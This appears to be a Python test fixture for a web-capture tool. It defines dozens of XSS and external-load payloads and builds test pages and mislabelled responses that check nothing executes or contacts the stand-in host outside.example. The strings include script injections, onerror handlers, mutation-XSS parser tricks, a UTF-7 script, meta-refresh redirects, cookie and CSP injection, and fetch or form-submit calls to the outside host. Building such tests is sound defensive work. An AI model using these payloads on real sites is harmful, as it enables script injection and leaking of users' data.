# ruff: noqa: E501  what strangers write
"""Captures that would run a script, or have the reader ask somebody else.

Each of these is a piece of a page; `OUTSIDE` is who must never be asked. A stopper is put
behind each, so that one that opens something does not swallow the next.
"""

import json
from collections.abc import Iterator, Sequence

from hozon.nouns.model import Headers
from tests.browser.corpora import CORPORA
from tests.fetching import Answer

OUTSIDE = "https://outside.example"
STOPPER = "--></script></style></title></textarea></xmp></noscript></noembed></iframe></select></template></math></svg></object></table>\n"

PIECES = [
    "<script>alert(1)</script>",
    f"<script src={OUTSIDE}/a.js></script>",
    f"<script type=module>import '{OUTSIDE}/m.js'</script>",
    "<SCRIPT\n>alert(1)</SCRIPT>",
    "<script>navigator.serviceWorker.register('/sw.js')</script>",
    f"<script>fetch('{OUTSIDE}/f');new Image().src='{OUTSIDE}/g';location='{OUTSIDE}/h'</script>",
    f"<script>top.location='{OUTSIDE}/top';parent.postMessage('x','*');opener&&opener.close()</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<body onload=alert(1) onpageshow=alert(2)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=animation:a onanimationstart=alert(1)>x</div><style>@keyframes a{}</style>",
    "<a href=javascript:alert(1) id=j>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f"<iframe src={OUTSIDE}/frame></iframe>",
    f"<frameset><frame src={OUTSIDE}/frame></frameset>",
    f"<object data={OUTSIDE}/o></object><embed src={OUTSIDE}/e><applet code=x archive={OUTSIDE}/j>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=data:image/svg+xml,<svg/xmlns='http://www.w3.org/2000/svg'/onload='alert(1)'/>>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='session=mine'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    f"<base href={OUTSIDE}/ target=_top>",
    f"<link rel=stylesheet href={OUTSIDE}/s.css><link rel=icon href={OUTSIDE}/i.ico>",
    f"<link rel=prefetch href={OUTSIDE}/p><link rel=preconnect href={OUTSIDE}><link rel=dns-prefetch href={OUTSIDE}>",
    f"<link rel=preload as=script href={OUTSIDE}/l.js><link rel=modulepreload href={OUTSIDE}/k.js>",
    f"<link rel=manifest href={OUTSIDE}/w.json><link rel=prerender href={OUTSIDE}/r>",
    f"<link rel=import href={OUTSIDE}/im.html><link rel='stylesheet' href='data:text/css,@import url({OUTSIDE}/d.css)'>",
    f"<style>@import '{OUTSIDE}/im.css';body{{background:url({OUTSIDE}/bg.png)}}@font-face{{font-family:o;src:url({OUTSIDE}/f.woff2)}}*{{font-family:o}}</style>",
    f"<style>\\75rl{{}}i{{background:\\75rl({OUTSIDE}/esc.png)}}b{{background:image-set('{OUTSIDE}/set.png' 1x)}}</style><i>i</i><b>b</b>",
    f"<p style=\"background:url('{OUTSIDE}/attr.png')\">x</p>",
    f"<img src={OUTSIDE}/i.png srcset='{OUTSIDE}/i2.png 2x'><input type=image src={OUTSIDE}/in.png>",
    f"<picture><source srcset={OUTSIDE}/so.webp><img src={OUTSIDE}/pi.png></picture>",
    f"<video autoplay poster={OUTSIDE}/po.png src={OUTSIDE}/v.mp4></video><audio autoplay src={OUTSIDE}/a.mp3></audio>",
    f"<table background={OUTSIDE}/t.png><td background={OUTSIDE}/td.png>x</table>",
    f"<svg><image href={OUTSIDE}/si.png /><use href={OUTSIDE}/su.svg#a /><feImage href={OUTSIDE}/fe.png /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><rect width=99 height=99 /><animate attributeName=href values=javascript:alert(1) /></a><set attributeName=onload to=alert(1) /></svg>",
    f"<svg><script>alert(1)</script><script href={OUTSIDE}/svg.js /></svg>",
    f"<form action={OUTSIDE}/form method=post id=f><input name=a value=b><button formaction={OUTSIDE}/fa>go</button></form><script>f.submit()</script>",
    f"<form action={OUTSIDE}/get><input type=submit autofocus></form>",
    f"<a href={OUTSIDE}/ping ping={OUTSIDE}/ping2 download>x</a><area href={OUTSIDE}/area>",
    "<template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(2)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<title></title><img src=x onerror=alert(1)><textarea></textarea><img src=x onerror=alert(2)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><script>alert(2)</script>-->",
    "<plaintext><script>alert(1)</script>",
]
"""Our own pieces: one for each way that we know of."""


def pieces() -> list[str]:
    """Return all pieces: ours, and the published payloads where they are at hand."""
    path = CORPORA / "vectors" / "xss" / "dompurify-payloads.json"
    published = json.loads(path.read_text("utf-8")) if path.exists() else []
    return [*PIECES, *published]


def batches(size: int = 48) -> Iterator[str]:
    """Yield pages of so many pieces; an image of the site itself is in each."""
    found = pieces()
    for at in range(0, len(found), size):
        yield page(found[at : at + size])


def page(some: Sequence[str]) -> str:
    """Return a page of these pieces."""
    words = (
        "<p>This is what a page says that means no good. It says it at length.</p>" * 4
    )
    return (
        "<!doctype html><meta charset=utf-8><title>Bad</title>"
        f"<link rel=stylesheet href=/own.css><h1>Bad</h1>{words}<img src=/own.png>\n"
        + STOPPER.join(some)
        + STOPPER
        + "<img src=/last.png>"
    )


_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='99' height='99'><script>alert(1)</script>"
    f"<image href='{OUTSIDE}/x.png' width='9' height='9'/><a href='{OUTSIDE}/a'>"
    "<rect width='99' height='99' onload='alert(2)' fill='green'/></a>"
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(3)'/></foreignObject></svg>"
)
_XHTML = (
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><head>"
    f"<script>alert(1)</script></head><body onload='alert(2)'><img src='{OUTSIDE}/x.png'/></body></html>"
)
_XML = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{OUTSIDE}/x.xsl'?><a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></a>"
_FORM = (
    "<!doctype html><title>Form</title><style>*{{margin:0;width:100%;height:900px}}</style>"
    "<form action={0}/form><button>go</button></form>"
)


def _typed(*fields: tuple[str, str]) -> Headers:
    return fields


KINDS: dict[str, Answer] = {
    "image.svg": Answer(_SVG.encode(), 200, _typed(("Content-Type", "image/svg+xml"))),
    "page.xhtml": Answer(
        _XHTML.encode(), 200, _typed(("Content-Type", "application/xhtml+xml"))
    ),
    "data.xml": Answer(_XML.encode(), 200, _typed(("Content-Type", "text/xml"))),
    "untyped": Answer(page(PIECES[:4]).encode(), 200, _typed()),
    "said-to-be-text": Answer(
        page(PIECES[:4]).encode(), 200, _typed(("Content-Type", "text/plain"))
    ),
    "said-to-be-png": Answer(
        page(PIECES[:4]).encode(), 200, _typed(("Content-Type", "image/png"))
    ),
    "utf-7": Answer(
        b"<!doctype html><title>7</title>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        200,
        _typed(("Content-Type", "text/html; charset=utf-7")),
    ),
    "error": Answer(
        page(PIECES[:8]).encode(), 404, _typed(("Content-Type", "text/html"))
    ),
    "loud": Answer(
        page(PIECES[:4]).encode(),
        200,
        _typed(
            ("Content-Type", "text/html"),
            ("Refresh", f"0;url={OUTSIDE}/refresh"),
            ("Link", f"<{OUTSIDE}/l.css>; rel=stylesheet"),
            ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
            ("Set-Cookie", "session=mine; Path=/"),
            ("Service-Worker-Allowed", "/"),
        ),
    ),
    "form": Answer(
        _FORM.format(OUTSIDE).encode(), 200, _typed(("Content-Type", "text/html"))
    ),
}
"""Documents of other kinds, by the name of their page."""
